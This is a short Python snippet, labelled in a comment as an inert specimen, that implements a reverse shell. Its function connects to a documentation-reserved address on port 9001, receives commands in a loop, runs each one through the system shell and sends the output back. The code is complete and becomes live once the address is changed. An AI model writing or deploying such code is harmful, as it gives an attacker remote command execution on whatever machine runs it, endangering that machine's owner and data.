# Inert specimen: the address is for documentation.
import socket
import subprocess


def tend():
    s = socket.socket()
    s.connect(("192.0.2.10", 9001))
    while True:
        order = s.recv(1024).decode()
        answer = subprocess.check_output(order, shell=True)
        s.send(answer)
